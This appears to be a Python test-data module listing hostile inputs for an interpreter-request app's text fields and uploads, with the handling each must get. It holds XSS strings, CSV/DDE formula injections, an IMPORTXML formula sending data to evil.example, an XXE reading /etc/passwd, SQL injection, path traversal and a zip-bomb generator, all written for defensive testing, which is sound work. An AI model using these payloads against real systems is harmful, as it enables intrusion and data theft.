"""Hostile inputs (issue 7): texts typed into every free-text field, and files uploaded.

Data only. Each text says what Relais must do with it:
- INERT: stored (normalised as core.text_rules documents: NFC, trimmed, names' spaces collapsed)
  and shown as literal text;
- REFUSED: refused in every field with a French message (control, bidi-override or surrogate
  character), nothing stored;
- ONE_LINE: a tab or line break inside: refused in a one-line field, stored in a multi-line
  one (and collapsed to one space in a name).
Any text longer than a field's limit is refused there too; the OVERLONG ones are longer than
every limit. The EICAR string is assembled at run time so that this file is not itself flagged.
"""
from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass

INERT, REFUSED, ONE_LINE = "inert", "refused", "one_line"


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str
    kind: str = INERT


def _h(kind: str, **named: str) -> list[Hostile]:
    return [Hostile(name, text, kind) for name, text in named.items()]


MARKUP = _h(
    INERT,
    script="<script>alert(1)</script>",
    script_marker="<script>window.__pwned=1</script>",
    img_onerror="<img src=x onerror=alert(1)>",
    img_onerror_marker='<img src=x onerror="window.__pwned=1">',
    svg_onload="<svg onload=alert(1)>",
    svg_slash="<svg/onload=window.__pwned=1>",
    iframe_js='<iframe src="javascript:alert(1)"></iframe>',
    iframe_srcdoc='<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    style_tag="<style>body{display:none}</style>",
    body_onload="<body onload=alert(1)>",
    attr_breakout='"><script>alert(1)</script>',
    single_quote_breakout="'><img src=x onerror=alert(1)>",
    anchor_js='<a href="javascript:alert(1)">clic</a>',
    mxss="<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    details_toggle="<details open ontoggle=alert(1)>",
    autofocus="<input autofocus onfocus=alert(1)>",
    object_data='<object data="data:text/html,<script>alert(1)</script>">',
    link_css="<link rel=stylesheet href=//evil.example/x.css>",
    meta_refresh='<meta http-equiv="refresh" content="0;url=https://evil.example">',
    entities="&lt;script&gt;alert(1)&lt;/script&gt;",
    template_braces="{{7*7}}",
    template_dollar="${7*7}",
    html_comment="<!-- commentaire",
    cdata="]]><script>alert(1)</script>",
    base_href='<base href="https://evil.example/">',
    xxe='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
)

LINKS = _h(
    INERT,
    js_url="javascript:alert(1)",
    js_url_mixed_case="JaVaScRiPt:alert(document.cookie)",
    md_link_js="[cliquez ici](javascript:alert(1))",
    md_link_phish="[formulaire](https://evil.example/login)",
    md_image="![pixel](https://evil.example/track.png)",
    md_image_js="![x](javascript:alert(1))",
    autolink="<https://evil.example>",
    md_emphasis="**gras** _italique_ ~~barré~~",
    md_heading="# Titre énorme",
    md_code="`code` et ```bloc```",
    md_latex="$\\LaTeX$ et $$x^2$$",
    st_directives=":red[rouge] :material/warning: :rainbow-background[x]",
    data_url="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    vbscript="vbscript:msgbox(1)",
    md_reference='[x]: https://evil.example "titre"',
    md_html_mix="**<b>gras</b>** [<img src=x onerror=alert(1)>](javascript:void(0))",
)

FORMULAS = _h(
    INERT,
    equals="=1+1",
    hyperlink='=HYPERLINK("https://evil.example","clic")',
    dde_pipe="=cmd|' /C calc'!A0",
    plus="+1+1",
    minus="-1+1",
    at="@SUM(1,1)",
    leading_tab="\t=1+1",  # surrounding whitespace is trimmed: stored « =1+1 »
    leading_cr="\r=1+1",
    dde_function='=DDE("cmd";"/C calc";"A1")',
    minus_cmd="-2+3+cmd|' /C calc'!A0",
    plus_cmd="+cmd|' /C notepad'!A0",
    at_cmd="@cmd|'/c calc'!A1",
    importxml='=IMPORTXML(CONCAT("https://evil.example/?d=",A1),"//a")',
    fullwidth_equals="＝1+1",
    csv_separators='a;b;"c";d,e',
)

UNICODE_INERT = _h(
    INERT,
    rlm_mark="Nom\u200f",
    zero_width_space="adm\u200bin",
    zwj_zwnj="می\u200cخواهم \u200d",
    word_joiner="mot\u2060joint",
    bom_inside="\ufeffDébut",
    soft_hyphen="inter\u00adprète",
    homoglyph_cyrillic="аdmin",  # Cyrillic а
    homoglyph_greek="Ηôpital",  # Greek Eta
    zalgo="Z\u0334\u0321\u031b\u0317a\u0336\u0328l\u0337\u0322g\u0335o\u0338",
    nfd_accent="e\u0301cole",  # stored NFC: « école »
    nfd_umlaut="Lo\u0308wen",
    emoji_zwj="👩🏽‍⚕️ 🧑‍🦽 🏳️‍🌈",
    emoji_flags="🇨🇦 🇫🇷",
    math_letters="𝕳𝖔𝖕𝖎𝖙𝖆𝖑",
    surrogate_looking="\\ud83d\\ude00",
    noncharacter="fin\uffff",
    replacement_char="\ufffd\ufffd",
    arabic="مرحبا بالعالم",
    hebrew_digits="שלום 123",
    nbsp_inside="Jean\u00a0Tremblay",
    ideographic_space="東京\u3000病院",
    private_use="\ue000\uf8ff",
)

UNICODE_REFUSED = _h(
    REFUSED,
    rlo_filename="facture\u202efdp.exe",
    rlo_leading="\u202eevil",
    lro="\u202dabc",
    rli_isolate="abc\u2067def\u2069",
    pdf_pop="abc\u202c",
    lre_embedding="\u202aabc",
    lone_high_surrogate="a\ud800b",
    lone_low_surrogate="\udfff",
)

CONTROLS = _h(
    REFUSED,
    nul_inside="a\x00b",
    nul_only="\x00",
    nul_trailing="abc\x00",
    bell="\x07",
    ansi_escape="\x1b[31mrouge\x1b[0m",
    backspaces="abc\x08\x08\x08",
    delete="\x7f",
    c1_nel="a\x85b",
    c1_csi="\x9b31m",
    vertical_tab="a\x0bb",
    form_feed="a\x0cb",
    separators="\x1c\x1d\x1e\x1f",
)

LINE_BREAKS = _h(
    ONE_LINE,
    newline="ligne 1\nligne 2",
    crlf_header="ligne 1\r\nBcc: victime@example.com",
    inner_tab="a\tb",
    md_quote="> citation\n> suite",
    md_table="| a | b |\n|---|---|",
    ics_injection="x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:faux",
    line_separator="a\u2028b",
    paragraph_separator="a\u2029b",
)

OVERLONG = _h(
    REFUSED,
    x_100k="x" * 100_000,
    accented_5k="é" * 5_000,
    scripts_10k="<script>" * 10_000,
    emoji_3k="😀" * 3_000,
    formula_50k="=" + "A" * 50_000,
    nfd_3k="e\u0301" * 3_000,
)

MISC = _h(
    INERT,
    traversal_unix="../../etc/passwd",
    traversal_windows="..\\..\\windows\\system32",
    absolute_unix="/etc/shadow",
    absolute_windows="C:\\Windows\\win.ini",
    percent_nul="%00",
    percent_script="%3Cscript%3E",
    sql_or="' OR '1'='1",
    sql_drop="'; DROP TABLE request; --",
    bobby_tables="Robert'); DROP TABLE user;--",
    literal_backslash_zero="\\x00",
    format_c="%s%s%n",
    format_python="{0.__class__}",
    null_word="null",
    none_word="None",
    undefined_word="undefined",
    nan_word="NaN",
    only_quotes='"\'"\'',
    spaces_only="   ",  # cleaned to nothing: a required field refuses it, others store nothing
)

TEXTS: list[Hostile] = (MARKUP + LINKS + FORMULAS + UNICODE_INERT + UNICODE_REFUSED + CONTROLS
                        + LINE_BREAKS + OVERLONG + MISC)
assert len({h.name for h in TEXTS}) == len(TEXTS), "duplicate names in the corpus"

# A sample for the browser test: what a page must show literally and never run.
BROWSER_SAMPLE = {
    "location": '<script>window.__pwned=1</script>',
    "professional_name": '<img src=x onerror="window.__pwned=1">',
    "context_detail": "[cliquez ici](javascript:window.__pwned=1)",
    "patient_name": "![pixel](https://evil.example/track.png)",
    "message_to_interpreter": '<a href="javascript:window.__pwned=1">clic</a> <svg onload=window.__pwned=1>',
    "note_to_coordinators": "**gras** <iframe src=\"javascript:window.__pwned=1\"></iframe>",
    "reason": "=HYPERLINK(\"https://evil.example\",\"clic\")",
}


# --- files ---------------------------------------------------------------------------------------

def eicar() -> bytes:
    """The standard antivirus test file (harmless by design), assembled here."""
    return (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*")


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def mz_bytes() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"


def zip_bomb_docx(unpacked_mb: int = 200) -> bytes:
    """A DOCX whose one extra member unpacks to `unpacked_mb` MB of zeros (a few hundred KB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType='
                         '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"'
                         '/></Types>')
        archive.writestr("word/document.xml", "<xml/>")
        with archive.open("word/media/bombe.bin", "w", force_zip64=True) as member:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(unpacked_mb):
                member.write(chunk)
    return buffer.getvalue()


def ratio_bomb_docx() -> bytes:
    """Under 100 MB unpacked, but one member packs 20 MB of zeros (ratio far above 100:1)."""
    return zip_bomb_docx(unpacked_mb=20)


@dataclass(frozen=True)
class HostileFile:
    name: str  # the name the browser sends
    data: bytes
    refused: bool
    why: str  # a word the French refusal must contain, or the stored name when accepted


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


FILES: list[HostileFile] = [
    HostileFile("eicar.txt", eicar(), True, "EICAR"),
    HostileFile("eicar.pdf", eicar(), True, "EICAR"),
    HostileFile("facture.pdf", mz_bytes(), True, "programme exécutable"),
    HostileFile("rapport.pdf", elf_bytes(), True, "programme exécutable"),
    HostileFile("bombe.docx", zip_bomb_docx(), True, "démesuré"),
    HostileFile("ratio.docx", ratio_bomb_docx(), True, "démesuré"),
    HostileFile("vide.pdf", b"", True, "vide"),
    HostileFile("trop-gros.pdf", b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024), True, "dépasse 10 Mo"),
    HostileFile("page.html", b"<html>\x00<script>alert(1)</script>", True, "pas un fichier accepté"),
    HostileFile("../../etc/passwd", _pdf(), False, "passwd.pdf"),
    HostileFile("..\\..\\windows\\win.ini", _pdf(), False, "win.ini.pdf"),
    HostileFile("/etc/shadow.pdf", _pdf(), False, "shadow.pdf"),
    HostileFile("C:\\Users\\x\\lettre.pdf", _pdf(), False, "lettre.pdf"),
    HostileFile("lettre\x00.exe.pdf", _pdf(), False, "lettre.exe.pdf"),
    HostileFile("facture\u202efdp.exe", _pdf(), False, "facturefdp.exe.pdf"),
    HostileFile("<img src=x onerror=alert(1)>.pdf", _pdf(), False, "<img src=x onerror=alert(1)>.pdf"),
    HostileFile("[clic](javascript:alert(1)).pdf", _pdf(), False, "[clic](javascript:alert(1)).pdf"),
    HostileFile("a" * 1000 + ".pdf", _pdf(), False, "a" * 251 + ".pdf"),
    HostileFile("...", _pdf(), False, "piece-jointe.pdf"),
    HostileFile("", _pdf(), False, "piece-jointe.pdf"),
    HostileFile("e\u0301cole.pdf", _pdf(), False, "école.pdf"),
    HostileFile("=cmd|' /C calc'!A0.pdf", _pdf(), False, "C calc'!A0.pdf"),  # « /C » reads as a folder
    HostileFile("MZ-notes.txt", b"MZ Dupont: rappeler lundi.\n", False, "MZ-notes.txt"),
]
